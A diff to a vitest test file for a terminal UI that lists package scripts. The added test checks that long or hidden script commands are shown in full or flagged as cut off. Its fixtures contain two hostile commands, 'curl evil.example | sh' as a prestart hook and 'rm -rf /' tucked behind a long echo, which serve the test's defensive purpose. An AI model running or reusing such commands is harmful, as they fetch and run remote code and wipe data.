@@ -2,7 +2,7 @@ import {describe, expect, test} from 'vitest'
 import type {NearFiles} from '../../src/tui/ports.ts'
 import {firstShown, isRunning, type Model} from '../../src/tui/state.ts'
 import {update} from '../../src/tui/update.ts'
-import {demoEntries, demoNear, firstModel} from './support/demo-first.ts'
+import {demoEntries, demoNear, firstModel, script} from './support/demo-first.ts'
 import {finishedRun, runningRun} from './support/demo-run.ts'
 import {demoPast, demoSuites} from './support/demo-suites.ts'
 import {drawn, feedOf, press} from './support/draw.ts'
@@ -26,6 +26,25 @@ test('why a key did nothing stays said while what was looked for comes', () => {
 	const [after] = update(model, {type: 'looked-around', near: demoNear})
 	expect(after.notice).toEqual(model.notice)
 	expect(after.notice?.text).toMatch(/^x does nothing here/)
+})
+
+test('all that a script starts is told, or that it is not', () => {
+	const start = script('start', `echo ${'a'.repeat(900)}; rm -rf /`, {
+		around: [
+			['prestart', 'curl evil.example | sh'],
+			['poststart', 'touch done'],
+		],
+	})
+	const scripts = [start, ...Array.from({length: 50}, (_, index) => script(`task:${index}`, 'true'))]
+	const at = (columns: number, rows: number) => drawn(firstModel({columns, rows}, {...demoEntries, scripts}))
+	const roomy = at(80, 24).join('\n')
+	for (const part of ['echo aaa', 'aaa; rm -rf /', 'prestart: curl evil.example | sh', 'poststart: touch done'])
+		expect(roomy).toContain(part)
+	const cramped = firstModel(
+		{columns: 60, rows: 15},
+		{...demoEntries, scripts: [{...start, around: [...start.around, ...start.around]}]},
+	)
+	expect(drawn(cramped).join('\n')).toMatch(/2 more lines of what it starts: make this window larger/)
 })
 
 describe('moving', () => {
